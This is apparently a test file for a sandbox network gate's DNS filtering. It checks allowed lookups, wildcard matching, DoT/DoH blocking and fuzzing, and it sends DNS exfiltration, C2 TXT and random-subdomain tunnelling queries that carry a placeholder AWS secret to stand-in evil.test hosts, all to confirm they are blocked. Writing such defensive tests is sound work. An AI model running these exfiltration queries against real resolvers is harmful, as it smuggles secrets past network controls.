import test from 'ava';
import {
  createWorld,
  startGate,
  startFakeResolver,
  baseConfig,
  bodyOf,
  WIRE_NODE_ARGS,
  WIRE_PRELUDE,
  type World,
  type Gate,
  type Upstream,
} from '../helpers/gate.js';
import { validateConfig } from '../../src/config/validate.js';
import { compilePolicies } from '../../src/policy/policy.js';

// One world, one sandgate, one fake upstream resolver in namespace "b" (10.77.3.2:53) that
// records every query it receives. sandgate resolves through it (upstream.resolver) for the
// names left out of upstream.hosts. Tests are serial: several count lines in shared logs.

let w: World;
let g: Gate;
let resolver: Upstream;
let config: Record<string, unknown>;

const ALLOW = [{ host: 'api.example.test' }, { host: 'plain.example.test', ports: [80] }, { host: '*.wild.example.test' }, { host: 'alias.example.test' }];

test.before(async () => {
  w = await createWorld();
  resolver = await startFakeResolver(w.topo, 'b', [
    '--answer',
    `x.wild.example.test=${w.a}`,
    '--answer',
    `deep.x.wild.example.test=${w.a}`,
    '--answer',
    `target.example.test=${w.a}`,
    '--cname',
    'alias.example.test=target.example.test',
    // Would be answered if sandgate ever forwarded them: the record must stay free of them.
    '--answer',
    `evil.example.test=${w.b}`,
    '--answer',
    `dns.example.test=${w.b}`,
  ]);
  config = {
    ...baseConfig(w, {
      allow: ALLOW,
      upstream: { hosts: { 'api.example.test': w.a, 'plain.example.test': w.a }, resolver: `${w.b}:53` },
    }),
    dns: {
      rateLimit: { qps: 1_000_000, burst: 1_000_000 },
      tcp: { idleTimeoutMs: 1000, maxConnections: 4 },
      auditSampling: { linesPerSecond: 1_000_000, burst: 1_000_000 },
    },
  };
  g = await startGate(w.topo, w.dir, config);
});

test.after.always(async () => {
  g?.proc.kill('SIGKILL');
  await w?.cleanup();
});

interface Dig {
  status: string;
  answers: { name: string; ttl: number; type: string; data: string }[];
  raw: string;
}

/** dig in the sandbox; its resolv.conf names 10.77.1.1 (the host side), unless @server is given. */
async function dig(args: string[]): Promise<Dig> {
  const r = await w.topo.exec(w.sandbox, 'dig', ['+tries=1', '+time=3', '+noall', '+comments', '+answer', ...args], { timeoutMs: 8000 });
  const status = /status: (\w+)/.exec(r.stdout)?.[1] ?? `no reply (${r.code}): ${r.stdout}${r.stderr}`;
  const answers = r.stdout
    .split('\n')
    .filter((l) => l && !l.startsWith(';'))
    .map((l) => {
      const [name, ttl, , type, ...data] = l.split(/\s+/);
      return { name: name ?? '', ttl: Number(ttl), type: type ?? '', data: data.join(' ') };
    });
  return { status, answers, raw: r.stdout };
}

/** Runs an ES module in the sandbox with sandgate's wire codec as `wire`; returns its stdout parsed as JSON. */
async function inSandbox(code: string, timeoutMs = 15000): Promise<any> {
  const r = await w.topo.exec(w.sandbox, process.execPath, [...WIRE_NODE_ARGS, WIRE_PRELUDE + code], { timeoutMs });
  try {
    return JSON.parse(r.stdout);
  } catch {
    throw new Error(`sandbox script failed (${r.code}): ${r.stdout}\n${r.stderr}`);
  }
}

/** Every name the fake upstream resolver has been asked for. */
const upstreamQueries = (): string[] => resolver.log.lines.filter((l) => 'query' in l).map((l) => String(l.query));

test.serial('dig over UDP and TCP: allowed names answered (static and via the upstream resolver), TTL clamped', async (t) => {
  const a = await dig(['api.example.test']);
  t.is(a.status, 'NOERROR', a.raw);
  t.deepEqual(
    a.answers.map((x) => [x.name, x.type, x.data]),
    [['api.example.test.', 'A', w.a]],
  );
  t.true(a.answers[0]!.ttl >= 5 && a.answers[0]!.ttl <= 300);
  const x = await dig(['+tcp', 'x.wild.example.test']);
  t.is(x.status, 'NOERROR', x.raw);
  t.deepEqual(
    x.answers.map((r) => r.data),
    [w.a],
  );
  t.true(upstreamQueries().includes('x.wild.example.test'), 'sandgate used the upstream resolver for a name not in upstream.hosts');
  const line = await g.log.waitFor((l) => l.event === 'dns' && l.host === 'x.wild.example.test');
  t.like(line, { proto: 'dns', decision: 'allow', sandbox: 'agent', user: 'alice', qtype: 'A', rule: 'policies.default.allow[2]', rcode: 'NOERROR' });
  t.regex(String(line.src), /^10\.77\.1\.2:\d+$/);
});

test.serial("DNS to any address is intercepted: @10.77.3.2 (the real resolver's address) and @10.77.2.2 get sandgate's answers", async (t) => {
  const before = upstreamQueries().length;
  for (const server of [w.b, w.a]) {
    const ok = await dig([`@${server}`, 'api.example.test']);
    t.is(ok.status, 'NOERROR', ok.raw);
    t.deepEqual(
      ok.answers.map((r) => r.data),
      [w.a],
    );
    const tcp = await dig([`@${server}`, '+tcp', 'evil.example.test']);
    t.is(tcp.status, 'NXDOMAIN', tcp.raw);
    const udp = await dig([`@${server}`, 'evil.example.test']);
    t.is(udp.status, 'NXDOMAIN', udp.raw);
  }
  t.is(upstreamQueries().length, before, 'nothing reached the resolver on 10.77.3.2');
});

test.serial('CNAME chains are resolved by sandgate and flattened; the target is not itself answerable', async (t) => {
  const r = await dig(['alias.example.test']);
  t.is(r.status, 'NOERROR', r.raw);
  t.deepEqual(
    r.answers.map((x) => [x.name, x.type, x.data]),
    [['alias.example.test.', 'A', w.a]],
  );
  t.is((await dig(['target.example.test'])).status, 'NXDOMAIN');
  // A covered name the upstream resolver does not know: its NXDOMAIN is passed on.
  t.is((await dig(['nosuch.wild.example.test'])).status, 'NXDOMAIN');
  t.true(upstreamQueries().includes('nosuch.wild.example.test'));
});

test.serial('AAAA, HTTPS, SVCB, TXT, MX, ANY for an allowed name: empty NOERROR; for an unlisted one: NXDOMAIN', async (t) => {
  const before = upstreamQueries().length;
  for (const type of ['AAAA', 'HTTPS', 'SVCB', 'TXT', 'MX', 'ANY', 'NULL']) {
    const ok = await dig(['-t', type, 'api.example.test']);
    t.is(ok.status, 'NOERROR', `${type}: ${ok.raw}`);
    t.deepEqual(ok.answers, [], type);
    const no = await dig(['-t', type, 'evil.example.test']);
    t.is(no.status, 'NXDOMAIN', type);
  }
  t.is(upstreamQueries().length, before, 'no type other than A is ever forwarded');
});

test.serial('system resolver clients: getent, Node dns.lookup, python getaddrinfo, curl', async (t) => {
  const ge = await w.topo.exec(w.sandbox, 'getent', ['hosts', 'api.example.test'], { timeoutMs: 8000 });
  t.is(ge.code, 0, ge.stderr);
  t.regex(ge.stdout, new RegExp(`^${w.a.replace(/\./g, '\\.')}\\s+api\\.example\\.test`));
  const geNo = await w.topo.exec(w.sandbox, 'getent', ['hosts', 'evil.example.test'], { timeoutMs: 8000 });
  t.is(geNo.code, 2, 'getent: key not found');

  const node = await inSandbox(`
    const dns = await import('node:dns');
    const look = (n) => dns.promises.lookup(n, { all: true }).then((r) => r, (e) => e.code);
    console.log(JSON.stringify({ ok: await look('x.wild.example.test'), no: await look('evil.example.test') }));`);
  t.deepEqual(node, { ok: [{ address: w.a, family: 4 }], no: 'ENOTFOUND' });

  const py = await w.topo.exec(
    w.sandbox,
    'python3',
    [
      '-c',
      `
import socket, json
ok = sorted({a[4][0] for a in socket.getaddrinfo('deep.x.wild.example.test', 443, proto=socket.IPPROTO_TCP)})
try:
    socket.getaddrinfo('evil.example.test', 443)
    no = 'resolved'
except socket.gaierror as e:
    no = e.errno == socket.EAI_NONAME
print(json.dumps({'ok': ok, 'no': no}))`,
    ],
    { timeoutMs: 8000 },
  );
  t.deepEqual(JSON.parse(py.stdout || '{}'), { ok: [w.a], no: true }, py.stderr);

  // curl resolves through the system resolver (no --resolve), then connects through sandgate.
  const c = await w.curl(['https://x.wild.example.test/dns-curl']);
  t.is(c.code, 0, c.stderr);
  t.is(bodyOf(c)?.server, 'a');
  const bad = await w.curl(['https://evil.example.test/']);
  t.is(bad.code, 6, 'curl: could not resolve host');
});

test.serial('wildcard semantics are identical to TLS (one matcher)', async (t) => {
  const { config: cfg } = validateConfig(config);
  const policy = compilePolicies(cfg!).byName.get('default')!;
  const names = [
    'api.example.test',
    'API.Example.TEST',
    'a.api.example.test',
    'example.test',
    'wild.example.test',
    'x.wild.example.test',
    'deep.x.wild.example.test',
    'X.WILD.example.test',
    'xwild.example.test',
    'wild.example.test.evil.test',
    'x-wild.example.test',
    'plain.example.test',
    'alias.example.test',
    '_srv.wild.example.test',
  ];
  for (const n of names) {
    // AAAA: answered from policy alone (no upstream lookup), so the verdict is the policy's.
    const r = await dig(['-t', 'AAAA', n]);
    const tls = [443, 80].some((p) => policy.decide(n.toLowerCase(), p, 'tls').decision === 'allow');
    t.is(r.status, tls ? 'NOERROR' : 'NXDOMAIN', n);
  }
});

test.serial('exfiltration: long labels, TXT, straight-to-resolver queries, 2,000 random subdomains: nothing reaches the resolver', async (t) => {
  const secret = Buffer.from('AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY and more secret material '.repeat(3)).toString('hex');
  const labels = secret
    .match(/.{1,63}/g)!
    .slice(0, 3)
    .join('.');
  for (const args of [
    [`${labels}.exfil.evil.test`],
    ['-t', 'TXT', `${labels}.t.evil.test`],
    ['+tcp', '-t', 'TXT', 'cmd.c2.evil.test'],
    [`@${w.b}`, '-t', 'TXT', `${labels}.direct.evil.test`],
    [`@${w.b}`, '+tcp', `${labels}.direct-tcp.evil.test`],
    ['-t', 'NULL', 'x.evil.example.test'],
  ]) {
    t.is((await dig(args)).status, 'NXDOMAIN', args.join(' '));
  }

  // 2,000 random subdomains, sent straight to b's resolver address over UDP, 100 in flight.
  const res = await inSandbox(`
    const dgram = await import('node:dgram');
    const s = dgram.createSocket('udp4');
    const N = 2000, WINDOW = 100;
    let sent = 0, done = 0; const rcodes = {};
    const t0 = performance.now();
    const send = () => { const id = sent++; s.send(wire.buildQuery(id, Math.random().toString(36).slice(2) + '-' + id + '.tunnel.evil.test', id % 2 ? 16 : 1), 53, ${JSON.stringify(w.b)}); };
    s.on('message', (m) => {
      const r = wire.parseResponse(m); rcodes[r.rcode] = (rcodes[r.rcode] ?? 0) + 1;
      if (++done === N) { console.log(JSON.stringify({ rcodes, ms: performance.now() - t0 })); s.close(); }
      else if (sent < N) send();
    });
    s.bind(0, () => { for (let i = 0; i < WINDOW; i++) send(); });
    setTimeout(() => { console.log(JSON.stringify({ rcodes, done, timeout: true })); process.exit(0); }, 10000).unref();`);
  t.deepEqual(res.rcodes, { 3: 2000 }, JSON.stringify(res));
  t.log(`2,000 denied random subdomains answered NXDOMAIN in ${Math.round(res.ms)} ms`);

  const leaked = upstreamQueries().filter((n) => !ALLOW.some((r) => r.host === n || (r.host.startsWith('*.') && n.endsWith(r.host.slice(1)))));
  t.deepEqual(leaked, [], 'the upstream resolver saw only allowed names');
  t.false(upstreamQueries().some((n) => n.includes('evil')));
  t.true(
    resolver.log.lines.every((l) => !('query' in l) || l.type === 'A'),
    'only A queries ever left the host',
  );
});

test.serial('DoT (853) and DoH to an unlisted resolver host are reset', async (t) => {
  const dot = await inSandbox(`
    const net = await import('node:net');
    const s = net.connect(853, ${JSON.stringify(w.b)});
    const out = { data: false };
    s.on('connect', () => { out.connected = true; s.write(Buffer.from([0x16, 3, 1, 0, 5, 1, 0, 0, 1, 0])); });
    s.on('data', () => { out.data = true; });
    s.on('error', (e) => { out.error = e.code; });
    s.on('close', () => { console.log(JSON.stringify(out)); });
    setTimeout(() => s.destroy(), 3000).unref();`);
  t.false(dot.data);
  t.is(dot.error, 'ECONNRESET');
  const line = await g.log.waitFor((l) => l.event === 'conn' && l.dst === `${w.b}:853`);
  t.is(line.decision, 'deny');
  const doh = await w.curl([
    '--resolve',
    `dns.example.test:443:${w.b}`,
    '-H',
    'accept: application/dns-message',
    'https://dns.example.test/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB',
  ]);
  t.not(doh.code, 0);
  const dl = await g.log.waitFor((l) => l.event === 'conn' && l.host === 'dns.example.test');
  t.is(dl.decision, 'deny');
});

test.serial('DNS over TCP: pipelined queries answered in order on one connection; idle, oversize and surplus connections closed', async (t) => {
  const r = await inSandbox(`
    const net = await import('node:net');
    const frame = (id, name, type = 1) => wire.encodeTcpFrame(wire.buildQuery(id, name, type));
    const run = (fn) => new Promise((resolve) => fn(resolve));
    const out = {};
    // Four queries in one write (an allowed A that needs the upstream resolver first), then a fifth.
    out.pipelined = await run((done) => {
      const s = net.connect(53, '10.77.1.1');
      const reader = new wire.TcpFrameReader(65535); const got = [];
      s.on('connect', () => {
        s.write(Buffer.concat([frame(1, 'deep.x.wild.example.test'), frame(2, 'evil.example.test'), frame(3, 'api.example.test', 28), frame(4, 'api.example.test')]));
        setTimeout(() => s.write(frame(5, 'nope.evil.test', 16)), 100);
      });
      s.on('data', (d) => { for (const m of reader.push(d)) { const p = wire.parseResponse(m); got.push([p.id, p.rcode, p.answers.length]); } if (got.length === 5) { s.end(); done(got); } });
      s.on('error', (e) => done({ error: e.code }));
    });
    // 300 queries in one write (past the 32 read ahead), then FIN: all answered, in order, before the close.
    out.many = await run((done) => {
      const s = net.connect(53, '10.77.1.1');
      const reader = new wire.TcpFrameReader(65535); const ids = [];
      s.on('connect', () => s.end(Buffer.concat(Array.from({ length: 300 }, (_, i) => frame(i, i % 2 ? 'api.example.test' : 'n' + i + '.evil.test')))));
      s.on('data', (d) => { for (const m of reader.push(d)) ids.push(wire.parseResponse(m).id); });
      s.on('close', () => done(ids.every((id, i) => id === i) ? ids.length : ids));
      s.on('error', () => {});
    });
    // A connection that sends one byte of a length prefix and stalls: closed after the idle timeout.
    out.stalled = await run((done) => {
      const s = net.connect(53, '10.77.1.1'); const t0 = performance.now();
      s.on('connect', () => s.write(Buffer.from([0])));
      s.on('close', () => done(Math.round(performance.now() - t0)));
      s.on('error', () => {});
    });
    // A frame announcing more than any query needs: dropped at once.
    out.oversize = await run((done) => {
      const s = net.connect(53, '10.77.1.1'); const t0 = performance.now();
      s.on('connect', () => s.write(Buffer.from([0xff, 0xff, 1, 2, 3])));
      s.on('close', () => done(Math.round(performance.now() - t0)));
      s.on('error', () => {});
    });
    // maxConnections is 4: the 5th and 6th concurrent connections are closed straight away.
    out.surplus = await run((done) => {
      const socks = []; const closedAt = [];
      const t0 = performance.now();
      for (let i = 0; i < 6; i++) {
        const s = net.connect(53, '10.77.1.1'); socks.push(s);
        s.on('error', () => {});
        s.on('close', () => closedAt.push(Math.round(performance.now() - t0)));
      }
      setTimeout(() => { done({ closedEarly: closedAt.length }); socks.forEach((s) => s.destroy()); }, 600);
    });
    console.log(JSON.stringify(out));`);
  t.deepEqual(r.pipelined, [
    [1, 0, 1],
    [2, 3, 0],
    [3, 0, 0],
    [4, 0, 1],
    [5, 3, 0],
  ]);
  t.is(r.many, 300);
  t.true(r.stalled >= 900 && r.stalled < 10000, `stalled connection closed after ${r.stalled} ms (idle timeout 1000 ms; the upper bound only detects a hang)`);
  t.true(r.oversize < 900, `oversize frame closed after ${r.oversize} ms: on the frame, before the 1000 ms idle timeout could`);
  t.is(r.surplus.closedEarly, 2);
});

test.serial('fuzz: thousands of random and mutated datagrams, then the responder still answers', async (t) => {
  const r = await inSandbox(
    `
    const dgram = await import('node:dgram');
    const net = await import('node:net');
    const { randomBytes } = await import('node:crypto');
    const s = dgram.createSocket('udp4');
    const seeds = [wire.buildQuery(1, 'api.example.test', 1), wire.buildQuery(2, 'x.wild.example.test', 28, { edns: { udpSize: 4096 } }), wire.buildQuery(3, 'evil.test', 16)];
    let replies = 0, bad = 0;
    s.on('message', (m) => { replies++; try { wire.parseResponse(m); } catch { bad++; } });
    await new Promise((r) => s.bind(0, r));
    const N = 6000;
    for (let i = 0; i < N; i++) {
      let msg;
      if (i % 3 === 0) msg = randomBytes(Math.floor(Math.random() * 600));
      else {
        msg = Buffer.from(seeds[i % 3]);
        for (let k = 0; k <= i % 5; k++) msg[Math.floor(Math.random() * msg.length)] = Math.floor(Math.random() * 256);
        if (i % 7 === 0) msg = msg.subarray(0, Math.floor(Math.random() * msg.length));
      }
      if (i % 500 === 0) msg = randomBytes(5000); // oversize
      if (msg.length === 0) msg = Buffer.from([0]);
      s.send(msg, 53, '10.77.1.1');
      if (i % 200 === 0) await new Promise((r) => setTimeout(r, 5));
    }
    // Garbage over TCP too.
    for (let i = 0; i < 50; i++) {
      await new Promise((done) => {
        const c = net.connect(53, '10.77.1.1', () => { c.write(randomBytes(1 + Math.floor(Math.random() * 300))); setTimeout(() => c.destroy(), 20); });
        c.on('error', () => {}); c.on('close', done);
      });
    }
    await new Promise((r) => setTimeout(r, 300));
    console.log(JSON.stringify({ sent: N, replies, bad }));
    s.close();`,
    30000,
  );
  t.log(`fuzz: ${r.sent} datagrams sent, ${r.replies} replies`);
  t.is(r.bad, 0, 'every reply is a well-formed DNS message');
  t.true(r.replies > 1000);
  t.is(g.proc.exitCode, null, 'sandgate is still running');
  const ok = await dig(['api.example.test']);
  t.is(ok.status, 'NOERROR');
  t.deepEqual(
    ok.answers.map((a) => a.data),
    [w.a],
  );
  t.falsy(
    g.log.find((l) => l.event === 'error'),
    'no handler failures',
  );
  t.false(upstreamQueries().some((n) => !ALLOW.some((rule) => rule.host === n || (rule.host.startsWith('*.') && n.endsWith(rule.host.slice(1))))));
});
